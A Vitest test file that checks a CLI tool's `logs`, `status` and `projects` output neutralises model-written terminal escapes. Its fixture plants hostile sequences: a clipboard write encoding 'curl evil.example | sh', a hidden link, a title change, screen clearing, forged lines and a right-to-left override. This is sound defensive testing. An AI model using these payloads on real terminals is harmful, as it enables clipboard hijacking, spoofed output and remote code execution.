import { describe, expect, it, vi } from 'vitest';
import { redisCliWorld } from './redis-fixtures.js';

// The model chooses commands, file names and the words of its messages, and all of it reaches the
// operator's terminal through `baton logs`, `status` and `projects`. Planted here as a worker
// would record it: escape sequences that would clear the screen, write the clipboard (OSC 52),
// set the title or hide a link, a carriage return and newlines that would forge an earlier or a
// fake line, and a right-to-left override. None may reach stdout as the character itself.
vi.setConfig({ testTimeout: 120_000 });

const world = redisCliWorld();

const ESC = '\u001b';
const hostile = [
  `${ESC}[2J${ESC}[H`,
  `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
  `${ESC}]0;owned\u0007`,
  `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
  '\u009b31m',
  '\rsafe',
  '\n✓ completed · flipped F1, F2, F3',
  '\u202eexe.txt',
].join(' ');

/** Every character a terminal acts on, except the newlines that end Baton's own lines. */
// eslint-disable-next-line no-control-regex -- the characters a terminal acts on
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

describe('model-written text reaches the terminal inert', () => {
  it('baton logs, status and projects show escape sequences, forged lines and overrides as text', async () => {
    const { redis } = world;
    const id = redis.projectId('tty');
    await redis.control.createProject({ id, goal: 'Greeter\n- say hello' });
    const at = Date.now();
    const base = { at, sessionId: 's1' };
    await redis.append(id, {
      ...base,
      type: 'session-start',
      kind: 'init',
      sessionNumber: 1,
      interrupted: false,
      model: 'sim',
      sandbox: { mode: 'off', reason: 'simulator', notice: 'commands run on the host' },
    });
    await redis.append(id, {
      ...base,
      type: 'tool-call',
      turn: 1,
      tool: 'bash',
      summary: `echo ${hostile}`,
      isError: false,
      durationMs: 1,
    });
    await redis.append(id, {
      ...base,
      type: 'api-retry',
      attempt: 1,
      delayMs: 10,
      message: hostile,
    });
    await redis.repository.transition(id, 'failed', { reason: `the model said: ${hostile}` });
    const logs = await world.cli(['logs', id]);
    expect(logs.code).toBe(0);
    expect(logs.stdout).toContain('echo \\u{1b}[2J\\u{1b}[H');
    const status = await world.cli(['status', id]);
    expect(status.code).toBe(0);
    expect(status.stdout).toContain('the model said: \\u{1b}[2J');
    const projects = await world.cli(['projects']);
    expect(projects.code).toBe(0);

    for (const [verb, output] of [
      ['logs', logs.stdout],
      ['status', status.stdout],
      ['projects', projects.stdout],
    ] as const) {
      expect(ACTIVE.exec(output), verb).toBeNull();
      // The forged line stays inside the line that carried it.
      expect(
        output.split('\n').some((line) => line.startsWith('✓ completed')),
        verb,
      ).toBe(false);
    }
    // JSON output escapes them as JSON does and keeps the text itself.
    const json = await world.cli(['logs', id, '--json']);
    expect(ACTIVE.exec(json.stdout)).toBeNull();
    expect(json.stdout).toContain('\\u001b]52;c;');
  });
});
